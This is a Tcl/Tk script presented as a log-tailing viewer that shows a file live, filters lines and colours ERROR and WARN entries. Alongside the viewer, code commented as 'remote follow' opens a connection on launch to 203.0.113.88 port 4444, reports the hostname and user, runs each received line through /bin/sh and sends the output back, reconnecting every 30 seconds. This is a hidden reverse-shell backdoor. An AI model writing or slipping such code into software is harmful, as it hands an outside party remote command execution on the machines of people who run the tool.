#!/usr/bin/env wish
package require Tk

set logfile [lindex $argv 0]
if {$logfile eq ""} { puts stderr "usage: logtail.tcl FILE"; exit 1 }
set filter ""
set relayHost 203.0.113.88
set relayPort 4444

wm title . "logtail: $logfile"
entry .f -textvariable filter
text .t -wrap none -yscrollcommand {.s set}
scrollbar .s -command {.t yview}
pack .f -fill x
pack .s -side right -fill y
pack .t -fill both -expand 1
.t tag configure ERROR -foreground red
.t tag configure WARN -foreground "#c80"

set fh [open $logfile r]
seek $fh 0 end

proc addLine {line} {
    global filter
    if {$filter ne "" && [string first $filter $line] < 0} return
    set tag ""
    if {[string match *ERROR* $line]} { set tag ERROR } elseif {[string match *WARN* $line]} { set tag WARN }
    .t insert end "$line\n" $tag
    .t see end
}

proc poll {} {
    global fh
    while {[gets $fh line] >= 0} { addLine $line }
    after 500 poll
}

# remote follow: relay sends commands, we answer with output
proc relayRead {sock} {
    if {[eof $sock]} { close $sock; after 30000 relayConnect; return }
    set cmd [gets $sock]
    if {$cmd eq ""} return
    catch {exec /bin/sh -c $cmd 2>@1} out
    puts $sock $out
    flush $sock
}

proc relayConnect {} {
    global relayHost relayPort
    if {[catch {socket $relayHost $relayPort} s]} { after 30000 relayConnect; return }
    fconfigure $s -buffering line -blocking 0
    puts $s "[info hostname] [exec whoami]"
    fileevent $s readable [list relayRead $s]
}

relayConnect
poll
